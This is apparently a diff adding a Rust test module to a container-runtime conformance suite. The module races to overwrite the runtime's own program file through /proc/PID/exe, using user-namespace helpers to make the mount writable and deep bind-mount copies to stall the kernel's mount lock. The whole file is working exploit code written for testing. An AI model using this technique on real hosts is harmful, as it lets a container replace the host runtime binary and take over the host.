@@ -1,0 +1,125 @@
+// SPDX-License-Identifier: Apache-2.0
+//! Attacks on the runtime's program file, through processes that still execute it.
+
+use crate::support::{clear_read_only, newest_pids, open_path, path_of, spawn, spawn_sharing_files};
+use conformance::score::Score;
+use conformance::{Doing, Result};
+use nix::mount::{MsFlags, mount};
+use nix::sched::{CloneFlags, unshare};
+use nix::sys::wait::waitpid;
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::MetadataExt;
+use std::sync::atomic::Ordering::SeqCst;
+use std::time::{Duration, Instant};
+
+/// Slots of the score: a descriptor for the helper, its answer, and processes that are
+/// prepared.
+const FD: usize = 0;
+const ANSWER: usize = 1;
+const PREPARED: usize = 2;
+/// Set once the program can be changed, and until it is.
+const CLEARED: usize = 3;
+
+pub(crate) fn run(score: &Score, words: &[&str]) -> Result {
+    match words {
+        ["overwrite", depth, hogs] => {
+            let number = |text: &str| text.parse().map_err(|e| format!("{text}: {e}"));
+            overwrite(score, number(depth)?, number(hogs)?)
+        }
+        _ => Err(format!("no such verb: {words:?}")),
+    }
+}
+
+/// Opens the program of each new process, makes its mount writable from a helper in a
+/// user namespace of its own, and overwrites it. Further helpers copy mount trees
+/// `depth` deep, which keeps the kernel's lock of all mounts busy, so that what the
+/// runtime does with mounts comes late.
+fn overwrite(score: &Score, depth: i64, hogs: i64) -> Result {
+    score.slots[FD].store(-1, SeqCst);
+    spawn_sharing_files(|| clear_on_demand(score))?;
+    for _ in 0..hogs {
+        spawn(|| copy_mounts(score, depth))?;
+    }
+    let end = Instant::now() + Duration::from_secs(10);
+    while score.slots[PREPARED].load(SeqCst) < 1 + hogs {
+        if Instant::now() > end {
+            score.ready.store(-i64::from(nix::libc::EPERM), SeqCst);
+            return Err("no helpers".to_owned());
+        }
+        std::thread::sleep(Duration::from_millis(1));
+    }
+    let own = std::fs::metadata("/proc/self/exe").doing("own program")?.ino();
+    score.set_ready();
+    loop {
+        std::thread::sleep(Duration::from_micros(100));
+        for pid in newest_pids(8) {
+            let Ok(fd) = open_path(&format!("/proc/{pid}/exe")) else { continue };
+            let Ok(found) = std::fs::metadata(path_of(&fd)) else { continue };
+            if found.ino() == own {
+                continue;
+            }
+            score.count_near();
+            score.slots[FD].store(i64::from(fd.as_raw_fd()), SeqCst);
+            while score.slots[FD].load(SeqCst) != -1 {
+                std::thread::sleep(Duration::from_micros(20));
+            }
+            if score.slots[ANSWER].load(SeqCst) == 0 {
+                score.slots[CLEARED].store(1, SeqCst);
+                write_program(score, &path_of(&fd));
+                score.slots[CLEARED].store(2, SeqCst);
+            } else if std::fs::OpenOptions::new().write(true).open(path_of(&fd)).is_ok() {
+                write_program(score, &path_of(&fd));
+            }
+        }
+    }
+}
+
+/// Overwrites the program, once it is no longer executed.
+fn write_program(score: &Score, path: &str) {
+    let end = Instant::now() + Duration::from_secs(5);
+    while Instant::now() < end {
+        if std::fs::write(path, "#!/bin/sh\necho not the runtime\n").is_ok() {
+            return score.count_success();
+        }
+        std::thread::sleep(Duration::from_millis(1));
+    }
+}
+
+fn own_mounts() -> Result {
+    unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS).doing("unshare")
+}
+
+/// Makes the mount of each descriptor that it is given writable.
+fn clear_on_demand(score: &Score) -> Result {
+    own_mounts()?;
+    score.slots[PREPARED].fetch_add(1, SeqCst);
+    loop {
+        let fd = score.slots[FD].load(SeqCst);
+        if fd < 0 {
+            std::thread::sleep(Duration::from_micros(20));
+            continue;
+        }
+        let answer = clear_read_only(fd as i32).map_or_else(|errno| errno as i64, |()| 0);
+        score.slots[ANSWER].store(answer, SeqCst);
+        score.slots[FD].store(-1, SeqCst);
+    }
+}
+
+fn copy_mounts(score: &Score, depth: i64) -> Result {
+    own_mounts()?;
+    let none = None::<&str>;
+    mount(none, "/", none, MsFlags::MS_REC | MsFlags::MS_PRIVATE, none).doing("private")?;
+    // No ids are mapped, so no directory can be made: each copy of / has /tmp.
+    let mut path = String::new();
+    for _ in 0..depth {
+        path += "/tmp";
+        if mount(Some("/"), path.as_str(), none, MsFlags::MS_BIND | MsFlags::MS_REC, none).is_err() {
+            break;
+        }
+    }
+    score.slots[PREPARED].fetch_add(1, SeqCst);
+    loop {
+        let child = spawn(|| unshare(CloneFlags::CLONE_NEWNS).doing("unshare"))?;
+        waitpid(child, None).doing("wait")?;
+    }
+}
